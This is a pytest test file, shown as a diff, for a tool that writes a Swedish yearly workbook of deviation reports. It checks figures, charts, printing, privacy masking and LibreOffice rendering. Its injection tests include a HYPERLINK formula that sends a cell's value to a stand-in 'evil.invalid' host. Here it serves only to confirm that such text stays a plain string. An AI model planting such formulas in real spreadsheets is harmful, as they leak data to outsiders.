@@ -1,0 +1,267 @@
+"""The yearly workbook: its sheets and cells, privacy, no formulas from report text, and LibreOffice opens it."""
+
+from __future__ import annotations
+
+import html
+import os
+import shutil
+import subprocess
+import zipfile
+from dataclasses import replace
+from datetime import date, datetime
+from pathlib import Path
+from typing import IO
+
+import openpyxl
+import pytest
+from pypdf import PdfReader
+
+from formkit import summary_xlsx
+from formkit.summary import DeviationSummary, summarize
+from formkit.summary_xlsx import (
+    LIST_HEADERS,
+    MAX_CELL_CHARS,
+    clean_text,
+    per_verksamhet_name,
+    write_per_verksamhet,
+    write_workbook,
+)
+
+FIXTURES = Path(__file__).parent / "resources" / "summary"
+INPUTS = [FIXTURES / "avvikelser-a.jsonl", FIXTURES / "avvikelser-b.json", FIXTURES / "avvikelser-c.csv"]
+SHEETS = ["Översikt", "Rapporterande × berörd", "Avvikelser", "Underlag"]
+# Every name, personnummer, address and free text of the fixtures (rapportörer, chefer, klienter).
+PERSONAL = (
+    "Åsa Öberg", "Şükrü Yılmaz", "Nguyễn Thị Huệ", "Tolvan", "19121212", "121212-1212", "201212121212",
+    "0701234567", "Testgatan", "tolvan@example.org", "Arjeplogs skola", "Habiliteringen", "Mottagande enhet",
+    "Kallelsen besvarades inte", "HYPERLINK", "Utse en kontaktperson", "Uteblev från mötet",
+)  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def summary() -> DeviationSummary:
+    return summarize(INPUTS, 2025)
+
+
+@pytest.fixture(scope="module")
+def workbook_path(summary: DeviationSummary, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    return write_workbook(summary, tmp_path_factory.mktemp("wb") / "avvikelser-2025.xlsx")
+
+
+def unzipped_text(path: Path) -> str:
+    """Every part of the xlsx, XML entities decoded (openpyxl writes å as &#229;)."""
+    with zipfile.ZipFile(path) as archive:
+        return "\n".join(html.unescape(archive.read(name).decode("utf-8")) for name in archive.namelist())
+
+
+def column(ws: openpyxl.worksheet.worksheet.Worksheet, header: str) -> list[object]:
+    rows = list(ws.iter_rows(values_only=True))
+    index = list(rows[0]).index(header)
+    return [row[index] for row in rows[1:]]
+
+
+def labelled(ws: openpyxl.worksheet.worksheet.Worksheet) -> dict[str, object]:
+    """Column A -> column B of a sheet (the first occurrence of each label)."""
+    found: dict[str, object] = {}
+    for row in ws.iter_rows(min_col=1, max_col=2, values_only=True):
+        if isinstance(row[0], str):
+            found.setdefault(row[0], row[1])
+    return found
+
+
+def test_sheets_and_overview_figures(workbook_path: Path) -> None:
+    wb = openpyxl.load_workbook(workbook_path)
+    assert wb.sheetnames == SHEETS
+    overview = labelled(wb["Översikt"])
+    assert wb["Översikt"]["A1"].value == "Avvikelser 2025"
+    assert overview["Avvikelser"] == 9
+    assert overview["Har fått återkoppling"] == 3
+    assert overview["Mediantid från rapport till återkoppling (dagar)"] == 10
+    assert overview["Ej avslutade"] == 7
+    assert overview["Avvisade rapporter (se Underlag)"] == 3
+    assert overview["Dubbletter (samma referens, räknade en gång)"] == 2
+    assert overview["mars"] == 2 and overview["februari"] == 0 and overview["december"] == 1
+    assert overview["Övrigt"] == 2
+    assert overview["Avslutad"] == 2 and overview["Rapporterad"] == 4
+    # per rapporterande comes before per berörd: the first "Barn- och ungdomspsykiatri (BUP)" is the reporting count.
+    assert overview["Barn- och ungdomspsykiatri (BUP)"] == 0
+    assert len(wb["Översikt"]._charts) == 2
+
+
+def test_native_charts_are_in_the_file(workbook_path: Path) -> None:
+    with zipfile.ZipFile(workbook_path) as archive:
+        charts = [name for name in archive.namelist() if name.startswith("xl/charts/chart")]
+        assert len(charts) == 2
+        xml = "".join(archive.read(name).decode() for name in charts)
+    assert xml.count("<barChart>") == 2
+    assert "'Översikt'!$B$" in html.unescape(xml)
+
+
+def test_cross_table(workbook_path: Path) -> None:
+    ws = openpyxl.load_workbook(workbook_path)["Rapporterande × berörd"]
+    rows = list(ws.iter_rows(min_row=3, values_only=True))
+    header = list(rows[0])
+    table = {row[0]: dict(zip(header[1:], row[1:], strict=True)) for row in rows[1:]}
+    assert table["Grundskola"]["Individ- och familjeomsorg (socialtjänst)"] == 2  # A-001, A-007
+    assert table["Grundskola"]["Barn- och ungdomspsykiatri (BUP)"] == 1
+    assert table["Grundskola"]["Summa"] == 4
+    assert table["Summa"]["Barn- och ungdomspsykiatri (BUP)"] == 3
+    assert table["Summa"]["Summa"] == 9
+
+
+def test_list_sheet_is_a_filtered_table_with_real_dates(workbook_path: Path) -> None:
+    ws = openpyxl.load_workbook(workbook_path)["Avvikelser"]
+    assert [c.value for c in ws[1]] == list(LIST_HEADERS)
+    assert ws.freeze_panes == "A2"
+    (table,) = ws.tables.values()
+    assert table.ref == f"A1:K{9 + 1}"
+    assert table.autoFilter is not None
+    assert column(ws, "Referens") == ["A-001", "A-005", "A-006", "A-007", "A-010", None, "A-011", "A-012", "A-003"]
+    handelsedatum = column(ws, "Händelsedatum")
+    assert all(isinstance(value, datetime) for value in handelsedatum)
+    assert handelsedatum[0] == datetime(2025, 1, 1) and handelsedatum[-1] == datetime(2025, 12, 31)
+    assert ws["B2"].number_format == "yyyy-mm-dd"
+    assert column(ws, "Dagar till återkoppling")[:4] == [None, 10, 4, 20]
+    assert column(ws, "Status")[1] == "Avslutad"
+    assert column(ws, "Kategori")[0] == "Kallelse har inte besvarats"
+
+
+def test_underlag_lists_inputs_rejected_and_version(workbook_path: Path) -> None:
+    ws = openpyxl.load_workbook(workbook_path)["Underlag"]
+    rows = [row for row in ws.iter_rows(values_only=True) if any(v is not None for v in row)]
+    values = labelled(ws)
+    assert values["Skapad med formkit, version"]
+    assert isinstance(values["Skapad (UTC)"], datetime)
+    assert (str(INPUTS[0]), 8, 1, 5) in [tuple(row[:4]) for row in rows]
+    problems = [tuple(row[:4]) for row in rows if row[0] in {str(p) for p in INPUTS} and isinstance(row[2], str)]
+    assert problems == [
+        (str(INPUTS[0]), 8, "kategori", "enum"),
+        (str(INPUTS[1]), 2, "rapportor.verksamhetstyp", "enum"),
+        (str(INPUTS[1]), 2, "forslag_atgarder", "required"),
+        (str(INPUTS[2]), 4, "(hela posten)", "source"),
+    ]
+
+
+def test_every_sheet_prints_landscape_fitted_to_width_with_titles(workbook_path: Path) -> None:
+    wb = openpyxl.load_workbook(workbook_path)
+    for ws in wb.worksheets:
+        assert ws.page_setup.orientation == "landscape"
+        assert ws.page_setup.fitToWidth == 1
+        assert ws.sheet_properties.pageSetUpPr.fitToPage
+        assert ws.print_title_rows
+    assert wb["Avvikelser"].print_title_rows == "$1:$1"
+
+
+def test_no_personal_data_anywhere_in_the_file(workbook_path: Path) -> None:
+    text = unzipped_text(workbook_path)
+    for secret in PERSONAL:
+        assert secret not in text, secret
+
+
+def test_no_formula_cells_at_all(tmp_path: Path) -> None:
+    path = write_workbook(summarize(INPUTS, 2025, include_text=True), tmp_path / "text.xlsx")
+    with zipfile.ZipFile(path) as archive:
+        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
+    assert sheets and not any("<f>" in xml or "<f " in xml for xml in sheets)
+    text = unzipped_text(path)
+    # The description of A-010 is there, as text.
+    assert '=HYPERLINK("http://evil.invalid/?q="&A1,"klicka")' in text
+
+
+def test_include_text_adds_masked_text_columns(tmp_path: Path) -> None:
+    summary = summarize(INPUTS, 2025, include_text=True)
+    path = write_workbook(summary, tmp_path / "intern.xlsx")
+    ws = openpyxl.load_workbook(path)["Avvikelser"]
+    assert [c.value for c in ws[1]][-2:] == ["Beskrivning", "Förslag till åtgärder"]
+    descriptions = dict(zip(column(ws, "Referens"), column(ws, "Beskrivning"), strict=True))
+    assert descriptions["A-010"] == '=HYPERLINK("http://evil.invalid/?q="&A1,"klicka")'
+    assert ws.cell(row=column(ws, "Referens").index("A-010") + 2, column=12).data_type == "s"
+    assert "ÅÅMMDD-XXXX" in str(descriptions["A-011"])
+    text = unzipped_text(path)
+    for secret in ("19121212", "121212-1212", "201212121212", "0701234567", "Tolvan", "Testgatan", "Åsa Öberg"):
+        assert secret not in text, secret
+
+
+def test_report_values_that_look_like_formulas_or_errors_stay_strings(summary: DeviationSummary, tmp_path: Path) -> None:
+    tricky = ["=1+1", "#N/A", "+SUM(A1)", "@x", "bad\x01\x0bchars\ud800"]
+    reports = [replace(summary.reports[0], id=value, beskrivning=value) for value in tricky]
+    path = write_workbook(replace(summary, reports=reports, include_text=True), tmp_path / "tricky.xlsx")
+    ws = openpyxl.load_workbook(path)["Avvikelser"]
+    cells = [ws.cell(row=row, column=1) for row in range(2, 2 + len(tricky))]
+    assert [c.value for c in cells] == ["=1+1", "#N/A", "+SUM(A1)", "@x", "badchars"]
+    assert {c.data_type for c in cells} == {"s"}
+
+
+def test_clean_text_cuts_at_the_cell_limit() -> None:
+    long = "x" * (MAX_CELL_CHARS + 10)
+    assert len(clean_text(long)) == MAX_CELL_CHARS
+    assert clean_text(long).endswith("…")
+    assert clean_text("a\x00b\tc\nd") == "ab\tc\nd"
+
+
+def test_per_verksamhet_writes_one_workbook_per_reporting_type(summary: DeviationSummary, tmp_path: Path) -> None:
+    written = write_per_verksamhet(summary, tmp_path / "per")
+    types = ["grundskola", "gymnasieskola", "elevhalsa", "ifo", "primarvard", "habilitering"]
+    assert [p.name for p in written] == [per_verksamhet_name(2025, t) for t in types]
+    assert per_verksamhet_name(2025, "ifo") == "avvikelser-2025-ifo.xlsx"
+    wb = openpyxl.load_workbook(tmp_path / "per" / "avvikelser-2025-grundskola.xlsx")
+    assert wb.sheetnames == SHEETS
+    assert wb["Översikt"]["A1"].value == "Avvikelser 2025 – rapporterade av Grundskola"
+    assert column(wb["Avvikelser"], "Referens") == ["A-001", "A-005", "A-007", "A-011"]
+    assert labelled(wb["Översikt"])["Avvikelser"] == 4
+    # A-008 (grundskola) and the two rejects whose reporting type is unknown.
+    assert labelled(wb["Översikt"])["Avvisade rapporter (se Underlag)"] == 3
+    ifo = openpyxl.load_workbook(tmp_path / "per" / "avvikelser-2025-ifo.xlsx")
+    assert column(ifo["Avvikelser"], "Referens") == ["A-006"]
+    assert labelled(ifo["Översikt"])["Avvisade rapporter (se Underlag)"] == 2
+    for path in written:
+        text = unzipped_text(path)
+        assert not [secret for secret in PERSONAL if secret in text]
+
+
+def test_an_empty_year_still_makes_a_valid_workbook(tmp_path: Path) -> None:
+    summary = summarize(INPUTS[:1], 1999)
+    path = write_workbook(summary, tmp_path / "tom.xlsx")
+    wb = openpyxl.load_workbook(path)
+    assert labelled(wb["Översikt"])["Avvikelser"] == 0
+    (table,) = wb["Avvikelser"].tables.values()
+    assert table.ref == "A1:K2"
+
+
+class _FailingWorkbook:
+    def save(self, handle: IO[bytes]) -> None:
+        handle.write(b"half a workbook")
+        raise OSError("disk full")
+
+
+def test_a_failed_write_keeps_the_old_file(summary: DeviationSummary, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    target = tmp_path / "avvikelser.xlsx"
+    target.write_bytes(b"old")
+    monkeypatch.setattr(summary_xlsx, "build_workbook", lambda _summary: _FailingWorkbook())
+    with pytest.raises(OSError, match="disk full"):
+        write_workbook(summary, target)
+    assert target.read_bytes() == b"old"
+    assert [p.name for p in tmp_path.iterdir()] == ["avvikelser.xlsx"]
+
+
+def test_libreoffice_calc_opens_the_workbook(summary: DeviationSummary, tmp_path: Path) -> None:
+    soffice = shutil.which("soffice")
+    if soffice is None:
+        pytest.fail("soffice not found: install LibreOffice Calc (apt-get install libreoffice-calc-nogui)")
+    path = write_workbook(replace(summary, include_text=True), tmp_path / "avvikelser-2025.xlsx")
+    profile = (tmp_path / "lo-profile").as_uri()  # a private profile: parallel runs do not share a lock
+    done = subprocess.run(
+        [soffice, f"-env:UserInstallation={profile}", "--headless", "--convert-to", "pdf", "--outdir", str(tmp_path), str(path)],
+        capture_output=True,
+        timeout=180,
+        check=False,
+        env={**os.environ, "HOME": str(tmp_path)},
+    )
+    pdf = tmp_path / "avvikelser-2025.pdf"
+    assert done.returncode == 0, done.stderr.decode(errors="replace")
+    assert pdf.is_file(), done.stdout.decode(errors="replace")
+    text = "\n".join(page.extract_text() for page in PdfReader(pdf).pages)
+    assert "Avvikelser 2025" in text
+    assert "Rapporterande" in text and "Underlag" in text
+    assert "2025-12-31" in text  # a date cell printed as a date
+    assert date(2025, 1, 1).isoformat() in text
